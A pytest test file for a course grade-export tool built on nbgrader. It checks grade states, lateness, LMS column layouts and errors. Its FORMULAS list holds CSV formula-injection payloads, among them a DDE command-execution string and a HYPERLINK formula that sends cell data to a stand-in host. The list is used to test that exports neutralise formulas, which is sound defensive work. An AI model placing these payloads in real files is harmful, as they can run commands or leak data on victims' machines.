"""The table holds each grade that is final, none that is not, and no formula."""

from __future__ import annotations

import csv
from datetime import timedelta

import pytest
from nbgrader.api import Gradebook

from course_lib.cli import main
from course_lib.grading.export import FORMATS, harmless, table
from course_lib.grading.standing import GRADED, MISSING, UNGRADED, WAITING, standings
from tests.grading import room
from tests.grading.room import Person

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "  =1+1",
    "'=1+1",
    '"=1+1"',
    "\ufeff=1",
    "\u200b=1",
    "\uff1d1+1",
    "\u00a0@x",
    "\x00=1",
    "x;=1+1",
    'x,"=1+1',
    "x\n=1+1",
]
CLASS = [
    Person("ada", points=4.0, written=2.5, first="Ada", last="Byron", email="ada@example.org"),
    Person("bob", points=0.0, written=0.0),
    Person("cy", points=5.0),
    Person("dee", points=None),
    Person("eve", submitted=None),
    Person("fay", points=3.0, written=1.0, submitted=room.DUE + timedelta(hours=25)),
    Person("gus", failed="no kernel"),
]


@pytest.fixture
def course(tmp_path):
    return room.furnish(tmp_path / "course", CLASS)


def rows(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.slow
def test_each_learner_has_a_row_and_only_final_grades_points(course):
    found = {s.learner: s for s in standings(course, room.SET).learners}
    states = [GRADED, GRADED, WAITING, UNGRADED, MISSING, GRADED, UNGRADED]
    assert [s.state for s in found.values()] == states
    assert [s.points for s in found.values()] == [6.5, 0.0, None, None, None, 4.0, None]
    assert found["gus"].notes == ["grading failed: no kernel"]


def test_the_plain_table(course, tmp_path, capsys):
    assert main(["export", room.SET, "--course", str(course.root)]) == 0
    said = capsys.readouterr()
    assert "3 of 7 learners have a grade" in said.out
    assert "course: waiting for points by hand: cy\n" in said.err
    assert "course: not submitted: eve\n" in said.err
    found = {row["learner"]: row for row in rows(course.root / f"{room.SET}.csv")}
    assert list(found) == [person.name for person in CLASS]
    assert [row["points"] for row in found.values()] == ["6.5", "0", "", "", "", "4", ""]
    assert [row["points so far"] for row in found.values()] == ["6.5", "0", "5", "", "", "4", ""]
    assert {row["of"] for row in found.values()} == {"8"}
    questions = ("overlap-check (of 5)", "why (of 3)")
    assert [found["ada"][q] for q in questions] == ["4", "2.5"]
    assert [found["cy"][q] for q in questions] == ["5", ""]
    assert [found["eve"][q] for q in questions] == ["", ""]
    assert found["cy"]["by hand"] == "why" and WAITING in found["cy"]["flags"]
    assert found["eve"]["state"] == MISSING and found["dee"]["state"] == UNGRADED
    assert found["fay"]["days late"] == "2" and "2 days late" in found["fay"]["flags"]
    assert found["ada"]["days late"] == "0" and found["ada"]["flags"] == ""


@pytest.mark.parametrize(
    ("form", "head", "ada"),
    [
        (
            "moodle",
            ["First name", "Last name", "ID number", "Email address", "Username"]
            + [f"{room.SET} (Real)", f"{room.SET} (Feedback)"],
            ["Ada", "Byron", "", "ada@example.org", "ada", "6.5", "overlap-check 4/5; why 2.5/3"],
        ),
        (
            "canvas",
            ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", room.SET],
            ["Byron, Ada", "", "", "ada", "", "6.5"],
        ),
        (
            "brightspace",
            ["OrgDefinedId", "Username", f"{room.SET} Points Grade", "End-of-Line Indicator"],
            ["", "ada", "6.5", "#"],
        ),
    ],
)
def test_platforms_get_their_columns_and_no_row_without_a_grade(course, form, head, ada):
    """An empty cell would erase there what was entered before."""
    found = table(standings(course, room.SET), form)
    assert found[0] == head
    if form == "canvas":
        assert found.pop(1) == ["    Points Possible", "", "", "", "", "8"]
    assert found[1] == ada and len(found) == 4
    assert not {"cy", "dee", "eve", "gus"} & {cell for row in found for cell in row}


def test_points_by_hand_arrive(course):
    with room.quiet(), Gradebook(course.database) as book:
        room.give(book, "cy", 1.5)
    found = {s.learner: s for s in standings(course, room.SET).learners}
    assert found["cy"].state == GRADED and found["cy"].points == 6.5


def test_what_was_graded_again_keeps_its_points_by_hand_and_says_so(course):
    with room.quiet(), Gradebook(course.database) as book:
        book.find_grade("why", "overlap", room.SET, "ada").needs_manual_grade = True
        book.db.commit()
    ada = standings(course, room.SET).learners[0]
    assert ada.points == 6.5 and "look once more" in ada.flags[0]


def test_extra_credit_counts_and_a_penalty_takes_nothing_below_nought(course):
    with room.quiet(), Gradebook(course.database) as book:
        book.find_grade("overlap-check", "overlap", room.SET, "ada").extra_credit = 2.0
        for name, penalty in (("fay", 1.0), ("bob", 3.0)):
            notebook = book.find_submission_notebook("overlap", room.SET, name)
            notebook.late_submission_penalty = penalty
        book.db.commit()
    found = {s.learner: s for s in standings(course, room.SET).learners}
    assert [found[name].points for name in ("ada", "fay", "bob")] == [8.5, 3.0, 0.0]


def test_an_extension_is_no_lateness(course):
    with room.quiet(), Gradebook(course.database) as book:
        book.grant_extension(room.SET, "fay", days=2)
    found = {s.learner: s for s in standings(course, room.SET).learners}
    assert found["fay"].late == 0


def test_without_a_time_due_nobody_is_late(tmp_path):
    course = room.furnish(tmp_path, [Person("ada", written=1.0)], due=None)
    with room.quiet(), Gradebook(course.database) as book:
        book.find_submission(room.SET, "ada").extension = timedelta(days=1)
        book.db.commit()
    assert standings(course, room.SET).learners[0].late == 0


def test_who_handed_in_and_stands_in_no_list_is_not_passed_over(course):
    (course.root / "submitted" / "zoe" / room.SET).mkdir(parents=True)
    last = standings(course, room.SET).learners[-1]
    assert (last.learner, last.state) == ("zoe", UNGRADED) and "not in the gradebook" in last.flags[
        1
    ]


def test_what_was_handed_in_since_is_not_graded(course):
    (course.submitted("ada", room.SET) / "overlap.ipynb").write_text("{}")
    ada = standings(course, room.SET).learners[0]
    assert ada.state == UNGRADED and ada.points is None and "since it was graded" in ada.flags[1]


@pytest.mark.adversarial
def test_a_record_that_is_broken_is_no_grade(course):
    (course.autograded("ada", room.SET) / "judged.json").write_text('{"format": 1, "points": NaN}')
    ada = standings(course, room.SET).learners[0]
    assert ada.state == UNGRADED and ada.points is None and "cannot be read" in ada.flags[1]


@pytest.mark.adversarial
@pytest.mark.parametrize("bad", FORMULAS)
def test_no_cell_is_a_formula(tmp_path, bad):
    person = Person(
        "ada", 4.0, 1.0, first=bad, last=bad, email=bad, hand=bad, notes=[bad], message=bad
    )
    course = room.furnish(tmp_path, [person])
    found = standings(course, room.SET)
    found.learners.append(type(found.learners[0])(bad, bad, bad, bad, bad, GRADED))
    found.questions = [("overlap", bad, 5.0)]
    found.assignment = bad
    for form in FORMATS:
        cells = [cell for row in table(found, form) for cell in row]
        for cell in cells:
            for separator in ",;\t|":
                for part in cell.split(separator):
                    first = part.lstrip(' \t\r\n\x00\u00a0\ufeff\u200b"')[:1]
                    assert first not in tuple("=+-@\uff1d"), (form, cell)
            assert "\n" not in cell and "\r" not in cell and "\x00" not in cell


@pytest.mark.parametrize("good", ["Ada", "O'Neill", "a-b", "1 = 1", "ada@example.org", "", "5.5"])
def test_what_is_no_formula_stays(good):
    assert harmless(good) == good


@pytest.mark.parametrize(
    ("words", "cure"),
    [
        (["nowhere"], "knows no assignment 'nowhere'; it has graded-overlap"),
        ([room.SET, "--course", "/nowhere"], "is no course folder"),
        ([room.SET, "--format", "excel"], "excel"),
    ],
)
def test_what_is_wrong_is_said_with_its_cure(course, words, cure, capsys, monkeypatch):
    monkeypatch.chdir(course.root)
    try:
        status = main(["export", *words])
    except SystemExit as error:
        status = error.code
    assert status == 2 and cure in capsys.readouterr().err
